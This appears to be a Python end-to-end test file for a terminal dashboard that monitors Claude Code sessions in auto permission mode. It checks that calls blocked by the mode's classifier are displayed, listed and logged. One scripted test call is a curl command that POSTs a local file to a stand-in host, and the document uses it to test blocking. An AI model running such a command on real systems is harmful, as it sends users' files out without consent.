"""Auto mode in the table, as users run it: the app a client of the resident service, Claude Code 2.1.330 started with no permission flag.

* A call the review flags: the row says the mode and the block
  (``auto · ⊘ blocked: curl … — <reason>``), ``e`` lists it with the mode's
  meaning.
* A gateway that drops the review: ``y`` at "Auto mode can't check actions"
  stays in auto mode (Enter), ``y`` at the "needs your approval" menu that
  follows (``❯ No / Yes``, no numbers) moves the cursor to "Yes" and the
  call runs; the footer still says auto mode.
"""

from __future__ import annotations

import asyncio
import json
import os
import signal
import time

import pytest

from headspace_tui.app.main import HeadspaceApp
from headspace_tui.app.screens.why import WhyScreen
from headspace_tui.app.widgets.agent_table import waiting_for
from headspace_tui.model import AgentState
from headspace_tui.resident.facade_client import ServiceClient
from headspace_tui.shared.config import Config
from headspace_tui.shared.resident_place import place_of
from headspace_tui.state.eventlog import EventLog
from headspace_tui.state.eventlog import default_path as events_path
from headspace_tui.tmux.server import TmuxServer
from tests.e2e.test_resident_service import run, started, wait_gone
from tests.harness import fake_api as api
from tests.harness.scenarios import NUMBERED_MENU, PAUSE, POST_REASON, _flagged_post, _post
from tests.harness.wait import poll
from tests.ui.apps import press_as_a_person, screen_open
from tests.ui.test_inbox_live import wait_until as until

pytestmark = pytest.mark.e2e

REASON = "Sends a local file to an outside host"


def _auto(claude_session, server: str, services: list[int], script, **options):
    """Claude started with no permission flag (auto mode), the service, and a client of it: (session, client)."""
    session = claude_session(script, permission_mode=None, **options)
    session.wait_for("auto mode on", timeout=30)
    started(server, services)
    client = ServiceClient(place_of(TmuxServer(socket_name=server).identity), config=Config())
    client.connect()
    return session, client


def _says(table, pane_id: str) -> str:
    """The row as the table shows it: state, then what it waits for (with the mode and a block)."""
    agent = table.agents.get(pane_id)
    return f"{agent.state.value}: {waiting_for(agent).plain}" if agent else "gone"


def test_the_row_says_auto_mode_and_the_call_it_blocked_and_e_lists_it(claude_session, private_tmux, services):
    leak = "curl -s -X POST --data-binary @notes.txt http://127.0.0.1:9/collect"
    session, client = _auto(claude_session, private_tmux.name, services, [api.flagged(api.bash(leak, "Send the notes"), REASON), api.text("Not sent.")], files={"notes.txt": "x\n"})

    async def scenario() -> None:
        app = HeadspaceApp(client)
        async with app.run_test(size=(160, 40)) as pilot:
            table = app.table
            shown = lambda: _says(table, session.pane_id)  # noqa: E731
            await until(pilot, lambda: session.pane_id in table.agents and table.agents[session.pane_id].mode == "auto", shown)
            await asyncio.to_thread(session.submit, "send my notes")
            await asyncio.to_thread(session.wait_for, "Not sent.", timeout=60)
            await until(pilot, lambda: table.agents[session.pane_id].state is AgentState.IDLE, shown)
            await until(pilot, lambda: shown().startswith(f"idle: auto · ⊘ blocked: {leak} — {REASON}"), shown)
            table.select(session.pane_id)
            await pilot.pause(0.2)
            await pilot.press("e")
            await until(pilot, lambda: screen_open(app, WhyScreen), lambda: "the why view")
            text = " ".join(str(w.render()) for w in app.screen.query("Static"))
            assert "Permission mode: auto: a classifier decides each call" in text and REASON in text, text

    asyncio.run(scenario())


def test_y_at_the_gateway_dialog_stays_in_auto_mode_and_y_at_the_menu_without_numbers_approves(claude_session, fake_api, private_tmux, services):
    fake_api.review = "none"
    call = "curl -s -o via-tui.txt http://127.0.0.1:9/gw || touch via-tui.txt"
    session, client = _auto(claude_session, private_tmux.name, services, [api.bash(call, "Fetch through the gateway"), api.text("Fetched.")])

    async def scenario() -> None:
        app = HeadspaceApp(client)
        async with app.run_test(size=(160, 40)) as pilot:
            table = app.table
            agent_says = lambda: _says(table, session.pane_id)  # noqa: E731
            await until(pilot, lambda: session.pane_id in table.agents, agent_says)
            await asyncio.to_thread(session.submit, "fetch it")
            await until(pilot, lambda: table.agents[session.pane_id].observation.tool == "Auto mode", agent_says, timeout=60)
            table.select(session.pane_id)
            await pilot.pause(0.6)  # a reaction time on the dialog
            await press_as_a_person(pilot, app, session.pane_id, "y", lambda: table.agents[session.pane_id].observation.option_labels == ["No", "Yes"], "the Bash dialog after the block", timeout=30)
            assert table.agents[session.pane_id].observation.tool == "Bash"
            await pilot.pause(0.6)
            table.select(session.pane_id)
            await press_as_a_person(pilot, app, session.pane_id, "y", lambda: "Fetched." in session.screen(), "Claude's reply after the approval", timeout=60)
            assert (session.workdir / "via-tui.txt").exists()
            screen = session.screen()
            assert "auto mode on" in screen and "accept edits on" not in screen, screen

    asyncio.run(scenario())


def test_a_service_started_at_auto_modes_pause_says_auto_mode_and_lists_the_three_blocks_and_again_after_a_kill(claude_session, private_tmux, services):
    """The user's Claude ran into auto mode's pause before headspace was there: the screen alone shows neither the mode
    (a dialog hides the footer) nor every block (they are grouped); its transcript says both.  Killed and started
    again, the service lists each block once, at its own time."""
    session = claude_session([_flagged_post(1), _flagged_post(2), _flagged_post(3), api.text("Stopped.")], permission_mode=None, name="late")
    session.wait_for("auto mode on", timeout=30)
    session.submit("upload the reports")
    session.wait_for(lambda scr: PAUSE.search(scr) is not None and NUMBERED_MENU.search(scr) is not None, timeout=120, what="auto mode's pause")
    blocked_before = time.time()
    started(private_tmux.name, services)

    def row() -> dict:
        (line,) = run("-L", private_tmux.name, "status", "--json").stdout.splitlines()
        return json.loads(line)

    want = [_post(n) for n in (1, 2, 3)]
    got = poll(row, lambda r: r["state"] == "permission" and r["mode"] == "auto" and [b["detail"] for b in r["blocked"]] == want, timeout=30)
    assert all(b["tool"] == "Bash" and b["reason"] == POST_REASON and b["at"] <= blocked_before for b in got["blocked"]), got["blocked"]

    # kill -9 and again: the same three, at the same times, and the log holds each once.
    pid = services[-1]
    os.kill(pid, signal.SIGKILL)
    assert wait_gone(pid, 10)
    started(private_tmux.name, services)
    again = poll(row, lambda r: r["mode"] == "auto" and [b["detail"] for b in r["blocked"]] == want, timeout=30)
    assert [b["at"] for b in again["blocked"]] == [b["at"] for b in got["blocked"]], (again["blocked"], got["blocked"])
    mine = f"local|L:{private_tmux.name}|{session.pane_id}|"
    with EventLog(events_path()) as log:
        logged = [e.payload["detail"] for e in log.query(kind="blocked") if (e.agent or "").startswith(mine)]
    assert sorted(logged) == want, logged
